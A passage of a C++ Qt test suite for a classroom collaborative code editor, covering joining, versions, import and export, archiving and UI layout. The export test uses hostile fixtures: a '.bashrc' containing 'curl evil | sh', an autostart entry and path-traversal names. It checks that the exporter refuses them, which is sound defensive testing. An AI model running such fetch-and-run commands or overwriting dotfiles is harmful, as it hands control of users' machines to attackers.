    QVERIFY(ana->pane->centerState()->text().contains(QLatin1String("removed you")));
    auto *retry = ana->pane->findChild<QToolButton *>(QStringLiteral("retryJoinButton"));
    QVERIFY(retry->isVisible());
    // Ines's People list no longer has her.
    QTRY_VERIFY(!ines->pane->participantsPanel()->menuButton(m_ana));
    // Asking again waits for a host, who can let her in.
    retry->click();
    QTRY_COMPARE(ana->pane->session()->state(), CodeSession::State::Pending);
    ines->pane->session()->approve(m_ana, true);
    QTRY_COMPARE(ana->pane->session()->state(), CodeSession::State::Joined);
}

void TestCodePane::versionLimitIsExplained()
{
    Server::ServerConfig config = TestServer::testConfig();
    config.maxCodeVersionsPerSession = 1;
    m_server = std::make_unique<RestartableServer>(config);
    QCOMPARE(m_server->start(), QString());
    m_ines = m_server->addUser(QStringLiteral("ines"), Role::Instructor);
    m_ana = m_server->addUser(QStringLiteral("ana"), Role::Student);
    m_course = m_server->addCourse(QStringLiteral("Algorithms"), m_ines, {m_ana}).id;
    auto ines = person(QStringLiteral("ines"));
    QVERIFY(ines);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    QVERIFY(createFile(*ines, QStringLiteral("a.py"), QStringLiteral("a = 1\n")).isValid());
    bool saved = false;
    ines->pane->session()->createVersion(QStringLiteral("first"), ines->code.get(),
                                         [&saved](const Client::Reply &reply, const std::optional<Client::CodeVersionInfo> &) {
                                             saved = reply.ok;
                                         });
    QTRY_VERIFY(saved);

    // The second is refused: the dialog says why and that nothing was deleted.
    VersionsDialog dialog(ines->pane->session());
    QTimer::singleShot(0, &dialog, [] {
        if (auto *input = qobject_cast<QInputDialog *>(QApplication::activeModalWidget()))
            input->accept();
    });
    dialog.saveButton()->click();
    QTRY_VERIFY2(dialog.status()->text().contains(QLatin1String("as many versions as the server keeps")),
                 qPrintable(dialog.status()->text()));
    QVERIFY(dialog.status()->text().contains(QLatin1String("None is deleted")));

    // The way out: delete the old one, after a confirmation (Cancel keeps it).
    QTRY_COMPARE(dialog.list()->count(), 1);
    dialog.list()->setCurrentRow(0);
    QVERIFY(dialog.deleteButton()->isEnabled());
    const auto answerWith = [](QMessageBox::StandardButton button) {
        QTimer::singleShot(0, [button] {
            if (auto *box = qobject_cast<QMessageBox *>(QApplication::activeModalWidget()))
                box->button(button)->click();
        });
    };
    answerWith(QMessageBox::Cancel);
    dialog.deleteButton()->click(); // the question's own event loop answers it before click() returns
    QCOMPARE(dialog.list()->count(), 1);
    answerWith(QMessageBox::Yes);
    dialog.deleteButton()->click();
    QTRY_COMPARE(dialog.list()->count(), 0);
    QTimer::singleShot(0, &dialog, [] {
        if (auto *input = qobject_cast<QInputDialog *>(QApplication::activeModalWidget()))
            input->accept();
    });
    dialog.saveButton()->click();
    QTRY_COMPARE(dialog.list()->count(), 1);
}

void TestCodePane::joinWithAccessCode()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    std::optional<Client::CodeSessionInfo> created;
    Client::NewCodeSession settings;
    settings.title = QStringLiteral("Private lab");
    settings.accessCode = QStringLiteral("PX7Q-MM2D");
    ines->code->createSession(settings, ines->code.get(),
                              [&created](const Client::Reply &, const std::optional<Client::CodeSessionInfo> &info) { created = info; });
    QTRY_VERIFY(created.has_value());
    QVERIFY(enter(*ines, created->id));
    // The host finds the session number and code under Access.
    QTRY_VERIFY(ines->pane->findChild<QToolButton *>(QStringLiteral("accessButton"))->isVisible());
    const QList<QAction *> access = ines->pane->findChild<QToolButton *>(QStringLiteral("accessButton"))->menu()->actions();
    QCOMPARE(access.at(0)->text(), QStringLiteral("Session %1 · code PX7Q-MM2D").arg(created->id.value()));

    // A wrong code is refused with a clear reason and a way to enter it again.
    ana->pane->openSession(created->id, QStringLiteral("WRONG-CODE"));
    QTRY_COMPARE(ana->pane->session()->state(), CodeSession::State::Refused);
    QCOMPARE(ana->pane->centerState()->title(), QStringLiteral("Could not join"));
    QVERIFY(ana->pane->centerState()->text().contains(QLatin1String("access code is wrong")));
    QVERIFY(ana->pane->findChild<QToolButton *>(QStringLiteral("retryJoinButton"))->isVisible());
    ana->pane->openSession(created->id, QStringLiteral(" px7q-mm2d "));
    QTRY_COMPARE(ana->pane->session()->state(), CodeSession::State::Joined);
    QVERIFY(!ana->pane->findChild<QToolButton *>(QStringLiteral("accessButton"))->isVisible());
}

void TestCodePane::importsSmallAndLargeFiles()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Imported"));
    QVERIFY(enter(*ines, id));
    QTemporaryDir dir;
    auto write = [&dir](const QString &name, const QByteArray &bytes) {
        QFile file(dir.filePath(name));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(bytes);
    };
    // Larger than one file.create (32,768 characters) and with non-ASCII text across pieces.
    QString large;
    for (int i = 0; large.size() < 100000; ++i)
        large += QStringLiteral("print(\"Größe %1 😀\")\n").arg(i);
    write(QStringLiteral("small.py"), QByteArrayLiteral("x = 1\n"));
    write(QStringLiteral("large.py"), large.toUtf8());
    write(QStringLiteral("binary.bin"), QByteArray("\x00\x01\xff", 3));
    ines->pane->importPaths({dir.filePath(QStringLiteral("small.py")), dir.filePath(QStringLiteral("large.py")),
                             dir.filePath(QStringLiteral("binary.bin"))});
    QTRY_COMPARE(ines->pane->session()->files()->rowCount(), 2);
    QVERIFY(ines->pane->findChild<MessageBanner *>(QStringLiteral("codeError"))->text().contains(QLatin1String("binary.bin")));

    QVERIFY(enter(*ana, id));
    Client::CodeFileId largeId;
    for (const Client::CodeFileInfo &file : ana->pane->session()->files()->files()) {
        if (file.path == QLatin1String("large.py"))
            largeId = file.id;
    }
    QVERIFY(largeId.isValid());
    QTRY_VERIFY_WITH_TIMEOUT(ines->pane->session()->openedFile(largeId)
                                 && !ines->pane->session()->openedFile(largeId)->hasUnsentChanges()
                                 && ines->pane->session()->openedFile(largeId)->text() == large, 20000);
    CollabEditor *anaEditor = openLoaded(*ana, largeId);
    QVERIFY(anaEditor);
    QTRY_COMPARE(anaEditor->text(), large);
}

void TestCodePane::exportWritesFolderAndZip()
{
    QTemporaryDir dir;
    const QList<Client::ExportedFile> files = {{QStringLiteral("main.py"), QStringLiteral("print('Größe')\n")},
                                               {QStringLiteral("src/util.py"), QStringLiteral("x = 1\n")},
                                               {QStringLiteral("empty.txt"), QString()}};
    QCOMPARE(SessionExport::toFolder(dir.filePath(QStringLiteral("out")), files), QString());
    QFile util(dir.filePath(QStringLiteral("out/src/util.py")));
    QVERIFY(util.open(QIODevice::ReadOnly));
    QCOMPARE(util.readAll(), QByteArray("x = 1\n"));
    QFile main(dir.filePath(QStringLiteral("out/main.py")));
    QVERIFY(main.open(QIODevice::ReadOnly));
    QCOMPARE(QString::fromUtf8(main.readAll()), QStringLiteral("print('Größe')\n"));

    const QString zipPath = dir.filePath(QStringLiteral("session.zip"));
    QCOMPARE(SessionExport::toZip(zipPath, files), QString());
    QFile zip(zipPath);
    QVERIFY(zip.open(QIODevice::ReadOnly));
    const QByteArray bytes = zip.readAll();
    QVERIFY(bytes.startsWith("PK\x03\x04"));
    QVERIFY(bytes.contains("src/util.py"));
    QVERIFY(bytes.contains("x = 1\n")); // small files are stored, not deflated, or deflated: either way named
    // A hostile path is refused before anything is written.
    const QList<Client::ExportedFile> hostile = {{QStringLiteral("../escape.py"), QStringLiteral("x")}};
    QVERIFY(!SessionExport::toFolder(dir.filePath(QStringLiteral("out2")), hostile).isEmpty());
    QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("escape.py"))));
    QVERIFY(!SessionExport::toZip(dir.filePath(QStringLiteral("bad.zip")), hostile).isEmpty());
    QVERIFY(!SessionExport::isSafePath(QStringLiteral("/etc/passwd")));
    QVERIFY(!SessionExport::isSafePath(QStringLiteral("a//b")));
    QVERIFY(!SessionExport::isSafePath(QStringLiteral("a/ b.c")));
    QVERIFY(!SessionExport::isSafePath(QStringLiteral("a\tb.c")));
    QVERIFY(SessionExport::isSafePath(QStringLiteral("a/b c.py")));

    // A session's names are anyone's: exported into a folder that has files (the home folder),
    // ".bashrc" would replace the user's own and ".config/autostart/…" run at the next login.
    // Only a new or empty folder is written into, and a bad name anywhere writes nothing.
    QVERIFY(QDir().mkpath(dir.filePath(QStringLiteral("home"))));
    QFile bashrc(dir.filePath(QStringLiteral("home/.bashrc")));
    QVERIFY(bashrc.open(QIODevice::WriteOnly));
    bashrc.write("mine\n");
    bashrc.close();
    const QList<Client::ExportedFile> dotfiles = {{QStringLiteral(".bashrc"), QStringLiteral("curl evil | sh\n")},
                                                  {QStringLiteral(".config/autostart/x.desktop"), QStringLiteral("[Desktop Entry]\n")}};
    QVERIFY(!SessionExport::toFolder(dir.filePath(QStringLiteral("home")), dotfiles).isEmpty());
    QVERIFY(bashrc.open(QIODevice::ReadOnly));
    QCOMPARE(bashrc.readAll(), QByteArray("mine\n"));
    QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("home/.config/autostart/x.desktop"))));
    const QList<Client::ExportedFile> hostileLast = {{QStringLiteral("fine.py"), QStringLiteral("x")},
                                                     {QStringLiteral("../escape.py"), QStringLiteral("x")}};
    QVERIFY(!SessionExport::toFolder(dir.filePath(QStringLiteral("out3")), hostileLast).isEmpty());
    QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("out3/fine.py"))));
}

void TestCodePane::fileTreeKeepsFoldersAndScroll()
{
    // The pane gives the tree the file list again whenever someone's place changes (every
    // scroll of every classmate): a folder the user closed stays closed and the tree does not
    // jump back to the top, also when a file is added.
    FileTreePanel panel;
    QList<Client::CodeFileInfo> files;
    auto add = [&files](qint64 id, const QString &path) {
        Client::CodeFileInfo file;
        file.id = CodeFileId(id);
        file.path = path;
        file.language = QStringLiteral("python");
        files.append(file);
    };
    add(1, QStringLiteral("docs/notes.md"));
    for (int i = 0; i < 40; ++i)
        add(10 + i, QStringLiteral("src/part%1.py").arg(i, 2, 10, QLatin1Char('0')));
    add(2, QStringLiteral("tests/test_parts.py"));
    panel.resize(240, 220);
    panel.show();
    QVERIFY(QTest::qWaitForWindowExposed(&panel));
    panel.setFiles(files);
    auto folder = [&panel](const QString &name) -> QTreeWidgetItem * {
        const QList<QTreeWidgetItem *> found = panel.tree()->findItems(name, Qt::MatchExactly, 0);
        return found.isEmpty() ? nullptr : found.first();
    };
    QVERIFY(folder(QStringLiteral("docs")));
    folder(QStringLiteral("docs"))->setExpanded(false);
    QScrollBar *bar = panel.tree()->verticalScrollBar();
    QTRY_VERIFY(bar->maximum() > 10);
    bar->setValue(bar->maximum() / 2);
    const int scrolled = bar->value();

    panel.setFiles(files);
    QVERIFY(!folder(QStringLiteral("docs"))->isExpanded());
    QCOMPARE(bar->value(), scrolled);

    add(99, QStringLiteral("src/extra.py"));
    panel.setFiles(files);
    QVERIFY(panel.itemFor(CodeFileId(99)));
    QVERIFY(!folder(QStringLiteral("docs"))->isExpanded());
    QVERIFY(folder(QStringLiteral("src"))->isExpanded());
    QCOMPARE(bar->value(), scrolled);
}

void TestCodePane::sidePanelsStayPutWhileOthersWork()
{
    // In a class, others scroll and type all the time. The People rows are not made again for
    // a scroll (a Follow button must stay clickable), and the comment list does not jump back
    // to the selected thread while Ana types in the commented file, above the comments or not.
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Review"));
    QVERIFY(enter(*ines, id));
    QString text;
    for (int i = 0; i < 120; ++i)
        text += QStringLiteral("line_%1 = %1\n").arg(i);
    const CodeFileId file = createFile(*ines, QStringLiteral("review.py"), text);
    QVERIFY(openLoaded(*ines, file));
    QVERIFY(enter(*ana, id));
    CollabEditor *anaEditor = openLoaded(*ana, file);
    QVERIFY(anaEditor);

    ParticipantsPanel *people = ines->pane->participantsPanel();
    ines->pane->sideTabs()->setCurrentWidget(people);
    QTRY_COMPARE(ines->pane->session()->fileOf(m_ana), file);
    QTRY_VERIFY(people->followButton(m_ana) && people->followButton(m_ana)->isEnabled());
    QTest::qWait(50);
    const QPointer<QToolButton> follow = people->followButton(m_ana);
    Client::CodeSessionFile *anaFile = ana->pane->session()->openedFile(file);
    for (int top : {30, 60, 90}) {
        anaFile->setLocalSelection(0, 0, top); // what her pane sends when she scrolls
        QTRY_COMPARE(ines->pane->session()->participants()->participant(m_ana)->viewportTopLine, top);
    }
    QTest::qWait(50);
    QVERIFY(follow);
    QCOMPARE(people->followButton(m_ana), follow.data());

    Client::CodeSession *session = ines->pane->session();
    for (int i = 0; i < 12; ++i) {
        const qsizetype start = session->openedFile(file)->text().indexOf(QStringLiteral("line_%1 ").arg(i * 5));
        session->addComment(file, start, start + 4,
                            QStringLiteral("Comment %1: long enough to wrap in the narrow side panel of the pane").arg(i));
    }
    CommentsPanel *comments = ines->pane->commentsPanel();
    ines->pane->sideTabs()->setCurrentWidget(comments);
    QTRY_COMPARE(comments->threads()->topLevelItemCount(), 12);
    // She has the first thread selected (to answer it later) and reads the last ones.
    comments->threads()->setCurrentItem(comments->threads()->topLevelItem(0));
    QScrollBar *bar = comments->threads()->verticalScrollBar();
    QTRY_VERIFY(bar->maximum() > 0);
    bar->setValue(bar->maximum());
    const int scrolled = bar->value();
    QVERIFY(scrolled > 0);

    anaEditor->setFocus();
    anaEditor->setCursorPosition(119, 0);
    QTest::keyClicks(anaEditor, QStringLiteral("# end"));
    QTRY_VERIFY(session->openedFile(file)->text().contains(QStringLiteral("# end")));
    QTest::qWait(50);
    QCOMPARE(bar->value(), scrolled);

    anaEditor->setCursorPosition(0, 0);
    QTest::keyClicks(anaEditor, QStringLiteral("# top"));
    QTest::keyClick(anaEditor, Qt::Key_Return);
    QTRY_VERIFY(comments->threads()->topLevelItem(0)->text(0).contains(QLatin1String("review.py:2 ")));
    QTest::qWait(50);
    QCOMPARE(bar->value(), scrolled);
}

void TestCodePane::longNamesFit()
{
    // Titles and names are as long as people make them: they end with "…" and every button
    // of the toolbar and of a person's row stays inside the pane.
    const QString longName = QStringLiteral("Maximiliane Alexandra von Hohenberg-Schillingsfürst");
    const Server::AuthOutcome maxi = m_server->server().auth().createAccount(QStringLiteral("maxi"), longName, Role::Student,
                                                                            QStringLiteral("password-123"));
    QVERIFY(maxi.ok());
    m_server->storage().addCourseMember(m_course, maxi.user.info.id, Role::Student);
    auto ines = person(QStringLiteral("ines"));
    auto student = person(QStringLiteral("maxi"));
    QVERIFY(ines && student);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab 12: a very long title of a session that somebody "
                                                                 "typed into the dialog without ever stopping to think"));
    QVERIFY(enter(*ines, id));
    const CodeFileId file = createFile(*ines, QStringLiteral("src/algorithms/graphs/shortest_paths_with_negative_edges.py"),
                                       QStringLiteral("x = 1\n"));
    QVERIFY(openLoaded(*ines, file));
    QVERIFY(enter(*student, id));
    QVERIFY(openLoaded(*student, file));
    ines->pane->resize(900, 600);
    ParticipantsPanel *people = ines->pane->participantsPanel();
    ines->pane->sideTabs()->setCurrentWidget(people);
    QTRY_COMPARE(ines->pane->session()->fileOf(maxi.user.info.id), file);
    QTRY_VERIFY(people->followButton(maxi.user.info.id) && people->followButton(maxi.user.info.id)->isEnabled());
    QTest::qWait(50);

    auto inside = [](QWidget *widget, QWidget *area) {
        const QRect rect(widget->mapTo(area, QPoint(0, 0)), widget->size());
        return widget->isVisible() && area->rect().contains(rect);
    };
    QListWidget *list = people->list();
    for (QToolButton *button : {people->followButton(maxi.user.info.id), people->menuButton(maxi.user.info.id)})
        QVERIFY(inside(button, list->viewport()));
    for (const char *name : {"leaveButton", "commentButton", "versionsButton"})
        QVERIFY2(inside(ines->pane->findChild<QToolButton *>(QLatin1String(name)), ines->pane.get()), name);
    const QWidget *row = list->viewport()->findChild<QWidget *>(QStringLiteral("participant-%1").arg(maxi.user.info.id.value()));
    QVERIFY(row);
    const QList<QLabel *> labels = row->findChildren<QLabel *>();
    QVERIFY(std::any_of(labels.cbegin(), labels.cend(), [&longName](const QLabel *label) {
        return label->text().endsWith(QChar(0x2026)) && label->toolTip() == longName;
    }));
    // The details ("Editor · in <file>") run under the buttons, across the row's whole width.
    const auto *detail = row->findChild<QLabel *>(QStringLiteral("participantDetail"));
    QVERIFY(detail);
    QVERIFY(detail->geometry().right() >= people->menuButton(maxi.user.info.id)->geometry().right() - 1);
    const auto *title = ines->pane->findChild<QLabel *>(QStringLiteral("sessionTitle"));
    QVERIFY(title->text().endsWith(QChar(0x2026)));
    QVERIFY2(title->text().size() > 20, qPrintable(title->text())); // shortened, not gone
    QVERIFY(title->toolTip().endsWith(QLatin1String("stopping to think")));
    // Beside the long title the save state still shows, shortened like the title if need be.
    const auto *sync = ines->pane->findChild<QLabel *>(QStringLiteral("syncState"));
    QTRY_COMPARE(sync->toolTip(), QStringLiteral("Saved on the server"));
    QVERIFY2(sync->width() >= sync->fontMetrics().horizontalAdvance(QStringLiteral("Saved on")), qPrintable(sync->text()));
}

void TestCodePane::followerSeesAScroll()
{
    // A lecturer often only scrolls (the wheel, the scroll bar) to show the next part: the
    // follower's view goes along, not only when the lecturer's caret moves.
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lecture"));
    QVERIFY(enter(*ines, id));
    QString text;
    for (int i = 0; i < 200; ++i)
        text += QStringLiteral("line_%1 = %1\n").arg(i);
    const CodeFileId file = createFile(*ines, QStringLiteral("long.py"), text);
    CollabEditor *inesEditor = openLoaded(*ines, file);
    QVERIFY(inesEditor);
    QVERIFY(enter(*ana, id));
    QVERIFY(openLoaded(*ana, file));
    QTRY_VERIFY(ana->pane->participantsPanel()->followButton(m_ines)
                && ana->pane->participantsPanel()->followButton(m_ines)->isEnabled());
    ana->pane->participantsPanel()->followButton(m_ines)->click();
    QTRY_COMPARE(ana->pane->session()->following(), m_ines);

    inesEditor->verticalScrollBar()->setValue(80);
    QCOMPARE(inesEditor->firstVisibleLine(), 80);
    QTRY_COMPARE(ana->pane->currentView()->editor()->firstVisibleLine(), 80);
}

QTEST_MAIN(TestCodePane)
#include "tst_codepane.moc"

namespace {

/// Clicks `button` of the next message box (its own event loop runs it) and keeps its text.
void answerNextBox(QMessageBox::StandardButton button, QString *text)
{
    QTimer::singleShot(0, [button, text] {
        if (auto *box = qobject_cast<QMessageBox *>(QApplication::activeModalWidget())) {
            *text = box->text();
            box->button(button)->click();
        }
    });
}

/// What a message box's label shows: its text, or the text its markup renders.
QString shownText(const QMessageBox *box)
{
    const auto *label = box->findChild<QLabel *>(QStringLiteral("qt_msgbox_label"));
    if (!label)
        return QString();
    const bool rich = label->textFormat() == Qt::RichText
        || (label->textFormat() == Qt::AutoText && Qt::mightBeRichText(label->text()));
    if (!rich)
        return label->text();
    QTextDocument document;
    document.setHtml(label->text());
    return document.toPlainText();
}

/// Cancels the next message box and keeps what its label showed.
void cancelNextBox(QString *shown)
{
    QTimer::singleShot(0, [shown] {
        if (auto *box = qobject_cast<QMessageBox *>(QApplication::activeModalWidget())) {
            *shown = shownText(box);
            box->button(QMessageBox::Cancel)->click();
        }
    });
}

QPalette darkPalette()
{
    QPalette p;
    const QColor window(0x2b, 0x2d, 0x31);
    const QColor text(0xe6, 0xe6, 0xe6);
    p.setColor(QPalette::Window, window);
    p.setColor(QPalette::WindowText, text);
    p.setColor(QPalette::Base, QColor(0x1f, 0x20, 0x23));
    p.setColor(QPalette::AlternateBase, QColor(0x26, 0x28, 0x2c));
    p.setColor(QPalette::Text, text);
    p.setColor(QPalette::Button, QColor(0x35, 0x37, 0x3c));
    p.setColor(QPalette::ButtonText, text);
    p.setColor(QPalette::PlaceholderText, QColor(0x8a, 0x8d, 0x93));
    p.setColor(QPalette::Disabled, QPalette::Text, QColor(0x6b, 0x6e, 0x73));
    p.setColor(QPalette::Disabled, QPalette::WindowText, QColor(0x6b, 0x6e, 0x73));
    p.setColor(QPalette::Disabled, QPalette::ButtonText, QColor(0x6b, 0x6e, 0x73));
    p.setColor(QPalette::Highlight, QColor(0x4f, 0x6d, 0xf5));
    p.setColor(QPalette::HighlightedText, Qt::white);
    return p;
}

/// Saves the widget light and dark to COHORT_SCREENSHOT_DIR, when set, for a person to look at.
void screenshot(QWidget *widget, const QString &name)
{
    const QString dir = qEnvironmentVariable("COHORT_SCREENSHOT_DIR");
    if (dir.isEmpty())
        return;
    QDir().mkpath(dir);
    const QPalette light = widget->palette();
    QVERIFY(widget->grab().save(QDir(dir).filePath(name + QStringLiteral("-light.png"))));
    widget->setPalette(darkPalette());
    QCoreApplication::processEvents();
    QVERIFY(widget->grab().save(QDir(dir).filePath(name + QStringLiteral("-dark.png"))));
    widget->setPalette(light);
    QCoreApplication::processEvents();
}

} // namespace

void TestCodePane::ownerArchivesAndDeletes()
{
    auto ines = person(QStringLiteral("ines"));
    auto ana = person(QStringLiteral("ana"));
    QVERIFY(ines && ana);
    const QString title = QStringLiteral("Lab 9: linked lists, iterators and the sentinel node that nobody remembers to free");
    const CodeSessionId id = createSession(*ines, title);
    QVERIFY(enter(*ines, id));
    const CodeFileId file = createFile(*ines, QStringLiteral("lists/linked_list.py"), QStringLiteral("class Node:\n    pass\n"));
    QVERIFY(file.isValid());
    CollabEditor *editor = openLoaded(*ines, file);
    QVERIFY(editor);
    QVERIFY(!editor->isReadOnly());
    QVERIFY(enter(*ana, id));
    QVERIFY(openLoaded(*ana, file));

    // Someone who does not own it is offered to open it, nothing else.
    ana->pane->refreshSessions();
    QTRY_COMPARE(ana->pane->sessionList()->count(), 1);
    const std::unique_ptr<QMenu> other(ana->pane->listMenu(id));
    QVERIFY(other->findChild<QAction *>(QStringLiteral("openSessionAction")));
    QVERIFY(!other->findChild<QAction *>(QStringLiteral("archiveSessionAction")));
    // Only the owner has the session's menu, with Archive; Delete comes only after it.
    QTRY_VERIFY(ines->pane->sessionMenuButton()->isVisible());
    QVERIFY(!ana->pane->sessionMenuButton()->isVisible());
    QVERIFY(ines->pane->archiveAction()->isVisible());
    QVERIFY(!ines->pane->deleteAction()->isVisible());

    // Archiving asks first, naming the session; Cancel keeps everything as it was.
    QString asked;
    answerNextBox(QMessageBox::Cancel, &asked);
    ines->pane->archiveAction()->trigger();
    QVERIFY2(asked.contains(title), qPrintable(asked));
    QVERIFY(!ines->pane->session()->isArchived()); // nothing was sent
    answerNextBox(QMessageBox::Yes, &asked);
    ines->pane->archiveAction()->trigger();
    QTRY_VERIFY(ines->pane->session()->isArchived());

    // Ana is out, and told so plainly.
    QTRY_COMPARE(ana->pane->session()->refusal(), CodeSession::Refusal::Archived);
    QTRY_VERIFY(ana->pane->roleBanner()->isVisible());
    QVERIFY2(ana->pane->roleBanner()->text().contains(QLatin1String("archived")), qPrintable(ana->pane->roleBanner()->text()));
    QVERIFY(ana->pane->centerState()->text().contains(QLatin1String("archived")));
    // Ines keeps it, read-only, and is told how to get it back.
    QTRY_VERIFY(editor->isReadOnly());
    QVERIFY(ines->pane->roleBanner()->text().contains(QLatin1String("Unarchive")));
    QVERIFY(!ines->pane->archiveAction()->isVisible());
    QVERIFY(ines->pane->unarchiveAction()->isVisible());
    QVERIFY(ines->pane->deleteAction()->isVisible());
    QVERIFY(!ines->pane->findChild<QToolButton *>(QStringLiteral("versionsButton"))->isVisible());
    QTRY_VERIFY(!ines->pane->participantsPanel()->menuButton(m_ana)); // roles are writes
    ines->pane->resize(900, 600);
    screenshot(ines->pane.get(), QStringLiteral("code-archived-owner"));
    screenshot(ana->pane.get(), QStringLiteral("code-archived-participant"));

    // The list shows it only when asked, greyed, with Unarchive and Delete.
    ines->pane->leaveSession();
    QTRY_VERIFY(ines->pane->noSessionsState()->isVisible());
    const CodeSessionId live = createSession(*ines, QStringLiteral("Lab 10: hash tables"));
    QVERIFY(live.isValid());
    ines->pane->refreshSessions();
    QTRY_COMPARE(ines->pane->sessionList()->count(), 1);
    ines->pane->showArchivedButton()->click();
    QTRY_COMPARE(ines->pane->sessionList()->count(), 2);
    QListWidgetItem *item = ines->pane->sessionList()->item(1); // newest first
    QVERIFY(item->text().startsWith(title));
    QVERIFY(item->text().contains(QLatin1String("archived")));
    QCOMPARE(item->foreground().color(), ines->pane->palette().color(QPalette::Disabled, QPalette::Text));
    // Switched to the dark palette, it is greyed in the dark palette's grey, not the light one's.
    ines->pane->setPalette(darkPalette());
    QCOMPARE(item->foreground().color(), darkPalette().color(QPalette::Disabled, QPalette::Text));
    QVERIFY(darkPalette().color(QPalette::Disabled, QPalette::Text) != QPalette().color(QPalette::Disabled, QPalette::Text));
    ines->pane->setPalette(QPalette());
    const std::unique_ptr<QMenu> menu(ines->pane->listMenu(id));
    QVERIFY(!menu->findChild<QAction *>(QStringLiteral("archiveSessionAction")));
    QVERIFY(menu->findChild<QAction *>(QStringLiteral("unarchiveSessionAction")));
    QAction *remove = menu->findChild<QAction *>(QStringLiteral("deleteSessionAction"));
    QVERIFY(remove);
    ines->pane->sessionList()->setCurrentItem(nullptr);
    // Title and details each have a line of their own, so that sessions do not run together.
    QListWidget *list = ines->pane->sessionList();
    QVERIFY(qobject_cast<SessionListDelegate *>(list->itemDelegate()));
    QVERIFY(list->visualItemRect(item).height() >= 2 * list->fontMetrics().height() + 8);
    screenshot(ines->pane.get(), QStringLiteral("code-archived-list"));

    // Deleting asks, naming it; Cancel keeps it, Delete removes it for good.
    answerNextBox(QMessageBox::Cancel, &asked);
    remove->trigger();
    QVERIFY2(asked.contains(title), qPrintable(asked));
    QCOMPARE(ines->pane->sessionList()->count(), 2); // nothing was sent
    answerNextBox(QMessageBox::Yes, &asked);
    remove->trigger();
    QTRY_COMPARE(ines->pane->sessionList()->count(), 1);
    QCOMPARE(ines->pane->sessionList()->item(0)->data(Qt::UserRole).toLongLong(), live.value());
    QVERIFY(!m_server->storage().code().codeSession(Server::CodeSessionId(id.value())));
}

void TestCodePane::dialogsShowTheTitleAsWritten()
{
    auto ines = person(QStringLiteral("ines"));
    QVERIFY(ines);
    // A title is whatever its owner typed, and an admin's dialog shows a student's: markup in it
    // is shown as written, never rendered (here it would hide the rest of the question).
    const QString title = QStringLiteral("<b>Lab</b> 3 <!-- all that follows is hidden");
    const CodeSessionId id = createSession(*ines, title);
    QVERIFY(id.isValid());
    ines->pane->refreshSessions();
    QTRY_COMPARE(ines->pane->sessionList()->count(), 1);
    const std::unique_ptr<QMenu> live(ines->pane->listMenu(id));
    QAction *archive = live->findChild<QAction *>(QStringLiteral("archiveSessionAction"));
    QVERIFY(archive);
    QString shown;
    cancelNextBox(&shown);
    archive->trigger();
    QVERIFY2(shown.contains(title) && shown.endsWith(QLatin1Char('?')), qPrintable(shown));

    bool archived = false;
    ines->code->archiveSession(id, ines->code.get(), [&archived](const Client::Reply &reply, const std::optional<Client::CodeSessionInfo> &) {
        archived = reply.ok;
    });
    QTRY_VERIFY(archived);
    ines->pane->showArchivedButton()->click();
    QTRY_VERIFY(ines->pane->sessionList()->count() == 1
                && ines->pane->sessionList()->item(0)->text().contains(QLatin1String("archived")));
    const std::unique_ptr<QMenu> menu(ines->pane->listMenu(id));
    QAction *remove = menu->findChild<QAction *>(QStringLiteral("deleteSessionAction"));
    QVERIFY(remove);
    shown.clear();
    cancelNextBox(&shown);
    remove->trigger();
    QVERIFY2(shown.contains(title) && shown.endsWith(QLatin1String("for good?")), qPrintable(shown));
}

void TestCodePane::archivedSessionOffersNoCommentWrites()
{
    auto ines = person(QStringLiteral("ines"));
    QVERIFY(ines);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab 4"));
    QVERIFY(enter(*ines, id));
    const CodeFileId file = createFile(*ines, QStringLiteral("a.py"), QStringLiteral("a = 1\nb = 2\n"));
    QVERIFY(file.isValid());
    CollabEditor *editor = openLoaded(*ines, file);
    QVERIFY(editor);
    CommentsPanel *comments = ines->pane->commentsPanel();
    ines->pane->sideTabs()->setCurrentWidget(comments);
    editor->setSelection(0, 0, 0, 5);
    QTRY_VERIFY(comments->findChild<QLabel *>(QStringLiteral("commentTarget"))->text().contains(QLatin1String("line 1")));
    comments->newCommentEdit()->setPlainText(QStringLiteral("Why 1?"));
    comments->addButton()->click();
    QTRY_COMPARE(comments->threads()->topLevelItemCount(), 1);
    comments->threads()->setCurrentItem(comments->threads()->topLevelItem(0));
    comments->replyEdit()->setPlainText(QStringLiteral("Because."));
    QVERIFY(comments->replyButton()->isEnabled());
    QVERIFY(comments->resolveButton()->isEnabled());

    // Archived, the server refuses every comment, reply and resolve: the panel offers none.
    bool archived = false;
    ines->code->archiveSession(id, ines->code.get(), [&archived](const Client::Reply &reply, const std::optional<Client::CodeSessionInfo> &) {
        archived = reply.ok;
    });
    QTRY_VERIFY(archived);
    QTRY_VERIFY(ines->pane->session()->isArchived());
    QTRY_VERIFY(!comments->replyButton()->isEnabled());
    QVERIFY(!comments->resolveButton()->isEnabled());
    editor->setSelection(1, 0, 1, 5);
    QTRY_VERIFY(comments->findChild<QLabel *>(QStringLiteral("commentTarget"))->text().contains(QLatin1String("line 2")));
    comments->newCommentEdit()->setPlainText(QStringLiteral("Another one"));
    QVERIFY(!comments->addButton()->isEnabled());

    // Unarchived, they are back.
    bool back = false;
    ines->code->unarchiveSession(id, ines->code.get(), [&back](const Client::Reply &reply, const std::optional<Client::CodeSessionInfo> &) {
        back = reply.ok;
    });
    QTRY_VERIFY(back);
    QTRY_VERIFY(comments->addButton()->isEnabled());
    QVERIFY(comments->replyButton()->isEnabled());
    QVERIFY(comments->resolveButton()->isEnabled());
}

void TestCodePane::unlockRefusedKeepsTheLock()
{
    QVERIFY(m_server->stop());
